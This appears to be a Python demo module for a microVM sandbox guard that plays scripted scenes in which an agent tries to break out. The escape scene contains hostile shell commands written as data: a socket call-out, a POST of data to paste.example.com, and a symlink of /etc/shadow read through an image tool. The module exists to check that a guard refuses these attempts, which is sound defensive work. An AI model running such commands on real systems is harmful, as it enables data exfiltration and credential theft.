"""What the demo does: one scene that works, and others that try to do wrong.

Each scene is a real run of the SDK's Runner or a real call of the guarded client. With the scripted model the agent's
moves are fixed. With a real one the agent does the work itself, and the wrongdoing stays scripted.
"""

from __future__ import annotations

from collections.abc import Awaitable, Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Any

from agents import Agent, RunConfig, Runner, WebSearchTool
from agents.items import ToolCallOutputItem
from agents.models.interface import Model
from agents.sandbox import SandboxAgent
from agents.sandbox.capabilities import Capability, Filesystem, Shell
from agents.sandbox.entries import LocalDir
from agents.sandbox.manifest import Manifest
from agents.sandbox.workspace_paths import SandboxPathGrant
from agents.testing import ScriptedModel, assistant_message, function_call
from openai.types.responses import ResponseCustomToolCall

from cedarbox.boxlite import BoxLiteSandboxClientOptions
from cedarbox.errors import PolicyDenied
from cedarbox.guard import GuardedClient

__all__ = ["SCENES", "Scene", "Seen", "World"]

_PATCH = """*** Begin Patch
*** Add File: fizzbuzz.py
+for n in range(1, 16):
+    print("Fizz" * (n % 3 == 0) + "Buzz" * (n % 5 == 0) or n)
*** End Patch
"""
# The guest's kernel brings a dummy0 of its own, which is down and leads nowhere; what is up or has a device counts.
_INTERFACES = (
    'cd /sys/class/net && for i in *; do if [ -e "$i/device" ] || [ "$(cat "$i/operstate")" != down ]; then '
    'echo "$i"; fi; done'
)
_TASK = "Write fizzbuzz.py, which prints FizzBuzz from 1 to 15, run it with python3, and tell me what it printed."
_POST = (
    'python3 -c \'import urllib.request as u; u.urlopen("https://paste.example.com/", b"data", 60)\' 2>&1 | tail -n 1'
)
# RFC 5737 §3: an address for documentation that is never routed, in case the guest has a network after all.
_CALL_OUT = """python3 -c 'import socket; socket.create_connection(("203.0.113.7", 443), 5)' 2>&1 | tail -n 1"""


@dataclass(frozen=True)
class World:
    """What the scenes play in.

    Attributes:
        config: The hardened run configuration.
        client: The guarded client in it.
        options: What a sandbox of it is made of.
        model: The model that does the work; None for the scripted one.
    """

    config: RunConfig
    client: GuardedClient
    options: BoxLiteSandboxClientOptions
    model: Model | None


@dataclass(frozen=True, slots=True)
class Seen:
    """What was seen of one attempt.

    Attributes:
        attempt: What was tried.
        refused: It had to be refused; otherwise it had to work.
        as_expected: It ended as it had to.
        detail: What was printed or answered, in one line.
    """

    attempt: str
    refused: bool
    as_expected: bool
    detail: str


@dataclass(frozen=True, slots=True)
class Scene:
    """A scene: what the audience is told, and how it is played."""

    title: str
    play: Callable[[World], Awaitable[Sequence[Seen]]]


async def _work(world: World) -> Sequence[Seen]:
    patch = ResponseCustomToolCall(type="custom_tool_call", call_id="write", name="apply_patch", input=_PATCH)
    steps: list[Any] = [[patch], _shell("run", "python3 fizzbuzz.py"), [assistant_message("It works.")]]
    capabilities: list[Capability] = [Shell()] if world.model else [Shell(), Filesystem()]
    agent = SandboxAgent(
        name="local-coder",
        instructions="You are a careful engineer. Work with exec_command in the workspace.",
        model=world.model or ScriptedModel(steps),
        capabilities=capabilities,
    )
    outputs = await _outputs(agent, _TASK, world)
    text = " ".join(" ".join(outputs).split())
    shown = text[text.find("1 2 Fizz") :] if "1 2 Fizz" in text else text[-60:]
    return [Seen("write fizzbuzz.py and run it", False, "13 14 FizzBuzz" in text, shown[:60])]


async def _escape(world: World) -> Sequence[Seen]:
    steps: list[Any] = [
        _shell("interfaces", _INTERFACES),
        _shell("call-out", _CALL_OUT),
        _shell("post", _POST),
        _shell("link", "ln -s /etc/shadow chart.png"),
        [function_call("view_image", {"path": "chart.png"}, call_id="view")],
        [assistant_message("I could not.")],
    ]
    agent = SandboxAgent(name="prowler", model=ScriptedModel(steps), capabilities=[Shell(), Filesystem()])
    interfaces, call, post, _, image = await _outputs(agent, "Look around.", world)
    alone = _printed(interfaces) == "lo"
    seen = f"interfaces up or with a card: {_printed(interfaces)}; {_printed(call)}"
    return [
        Seen("call out over the network from inside", True, alone and "unreachable" in call, seen),
        Seen("post data to paste.example.com through the proxy", True, "403" in post, _printed(post)),
        Seen("read /etc/shadow through the workspace", True, "unable to read" in image, _printed(image)),
    ]


async def _ask_for_egress(world: World) -> Sequence[Seen]:
    options = world.options.model_copy(update={"egress_allowlist": ("paste.example.com",)})
    return [await _denied("reach paste.example.com", world.client.create(options=options, manifest=Manifest()))]


async def _mount_etc(world: World) -> Sequence[Seen]:
    grant = SandboxPathGrant(path="/workspace/etc", host_path="/etc", read_only=True)
    manifest = Manifest(entries={"etc": LocalDir(src=Path("/etc"))}, extra_path_grants=(grant,))
    return [await _denied("mount the host's /etc", world.client.create(options=world.options, manifest=manifest))]


async def _hosted_tool(world: World) -> Sequence[Seen]:
    agent = Agent(name="searcher", tools=[WebSearchTool()], model=ScriptedModel([[assistant_message("searched")]]))
    run = Runner.run(agent, "Search the web for our customer's name.", run_config=world.config)
    return [await _denied("use a web search that runs at a vendor", run)]


def _shell(call_id: str, command: str) -> list[Any]:
    return [function_call("exec_command", {"cmd": command, "yield_time_ms": 30_000}, call_id=call_id)]


async def _outputs(agent: SandboxAgent[None], task: str, world: World) -> list[str]:
    result = await Runner.run(agent, task, run_config=world.config)
    return [str(item.output) for item in result.new_items if isinstance(item, ToolCallOutputItem)]


def _printed(output: str) -> str:
    return " ".join(output.rsplit("Output:", 1)[-1].split())


async def _denied(attempt: str, running: Awaitable[object]) -> Seen:
    try:
        await running
    except PolicyDenied as denial:
        return Seen(attempt, True, True, denial.reason)
    return Seen(attempt, True, False, "it was let through")


SCENES: tuple[Scene, ...] = (
    Scene("an agent writes and runs a program in a microVM", _work),
    Scene("an agent looks for a way out of its microVM", _escape),
    Scene("a sandbox asks for a host that is not allowed", _ask_for_egress),
    Scene("a manifest asks for a directory that is not allowed", _mount_etc),
    Scene("an agent brings a hosted tool", _hosted_tool),
)
